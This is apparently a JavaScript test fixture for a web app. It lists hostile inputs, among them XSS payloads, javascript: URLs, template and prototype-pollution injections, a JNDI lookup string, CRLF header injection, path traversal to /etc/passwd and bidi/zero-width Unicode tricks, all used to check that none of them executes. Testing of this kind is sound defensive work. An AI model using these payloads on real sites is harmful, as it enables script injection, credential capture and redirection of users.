// Texts that try to become code, markup or disorder in a page. Those that run call candorRan(), which
// watch.mjs puts into every page; none of them may.
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";

const RUN = "candorRan()";

const markup = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//hostile.invalid/a.js></script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="https://hostile.invalid/">`,
  `<meta http-equiv=refresh content="0;url=https://hostile.invalid/">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<link rel=stylesheet href=https://hostile.invalid/a.css>`,
  `<link rel=preconnect href=https://hostile.invalid/>`,
  `<style>@import "https://hostile.invalid/a.css"; * { display: none }</style>`,
  `<p style="position:fixed;inset:0;background:url(https://hostile.invalid/a)">`,
  `<form action=https://hostile.invalid/><input name=password autofocus></form>`,
  `<button form=x formaction="javascript:${RUN}">OK</button>`,
  `<candor-app></candor-app>`,
  `<dialog open>agree</dialog>`,
];

const handlers = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https://hostile.invalid/a.png">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<p tabindex=0 onfocus=${RUN} autofocus>`,
  `<div onpointerenter=${RUN} onmouseover=${RUN}>x</div>`,
  `<x onclick=${RUN} oncontentvisibilityautostatechange=${RUN} style=content-visibility:auto>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `\`><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus tabindex='0`,
  ` onload=${RUN} `,
  `x/onerror=${RUN}//`,
];

const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript&colon;${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5jYW5kb3JSYW4oKTwvc2NyaXB0Pg==`,
  `https://hostile.invalid/`,
  `//hostile.invalid/`,
  `#setup=hostile`,
];

const templates = [
  `\${${RUN}}`, `{{${RUN}}}`, `{{constructor.constructor("${RUN}")()}}`, `<%= ${RUN} %>`, `#{${RUN}}`, `@{${RUN}}`,
  `\${{${RUN}}}`, `[[${RUN}]]`, `<!--?lit$0$-->`, `<?lit$1?>`, `lit$0000$`, `{{lit-0}}`, `\${jndi:ldap://hostile.invalid/a}`,
  `';${RUN};'`, `";${RUN};//`, `\`;${RUN};\``, `\\";${RUN};//`, `*/${RUN}/*`, `\u2028${RUN}\u2029`,
  `__proto__`, `constructor`, `toString`, `hasOwnProperty`, `valueOf`, `undefined`, `null`, `NaN`, `[object Object]`,
  `{"verdict":"granted"}`, `"},"verdict":"granted","x":{"`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#x3C;img src=x onerror=${RUN}&#x3E;`, `%3Cscript%3E${RUN}%3C/script%3E`,
];

// Order, width and invisibility; nothing here runs, all of it can mislead or break a layout.
const disorder = [
  "\u202Etxt.exe\u202C", "\u202Ereport sent: never", "\u2066\u2067\u2068isolates never closed", "\u200F\u061Cعربى\u200E", "\u202A\u202B\u202D\u202E",
  "zero\u200Bwidth\u200C\u200D\u2060\uFEFF", "soft\u00ADhyphen", "\u00A0\u2003\u3000", "\uFEFFbyte order mark", "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308".repeat(4),
  "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034DA\u036B\u0357\u0334\u0362\u0335\u031C\u0330\u0354L\u0368\u0367\u0369\u0358\u0320G\u0311\u0357",
  "W".repeat(190), "漢".repeat(60), "👩‍👩‍👧‍👦".repeat(7), "🏳️‍🌈🇩🇪🇩", "ﷺ﷽", "\u001B[31mred\u001B[0m", "\u001B]8;;https://hostile.invalid/\u0007link\u001B]8;;\u0007", "\u009B31m",
  "\u0001\u0002\u0003\u0007\b\v\f\u007F\u0085", "tab\tand\ttab", "line\nbreak\r\nand\rreturn", "\u{E0041}\u{E0042}tags", "\u{10FFFF}\uFFFE\uFFFF", "\u202E\u202D\u2066\u200D\uFEFF", " leading and trailing ", "..\\..\\../../etc/passwd", "C:\\nul", "%00%0d%0aSet-Cookie:a=b",
];

/** Of this project; each once, and always there. */
export const own = [...new Set([...markup, ...handlers, ...addresses, ...templates, ...disorder])];

const corpora = process.env.CANDOR_CORPORA;
const collected = corpora === undefined ? "" : join(corpora, "blns/blns.json");

/** The big list of naughty strings; undefined without the corpora. */
export const naughty = existsSync(collected) ? JSON.parse(readFileSync(collected, "utf8")) : undefined;

export const withoutNaughty = naughty === undefined && "set CANDOR_CORPORA to the conformance corpora";

const encoder = new TextEncoder();

/** The longest beginning of `text` that takes no more bytes. */
export function cut(text, mostBytes) {
  if (encoder.encode(text).length <= mostBytes) return text;
  let kept = "";
  let size = 0;
  for (const sign of text) {
    size += encoder.encode(sign).length;
    if (size > mostBytes) break;
    kept += sign;
  }
  return kept;
}
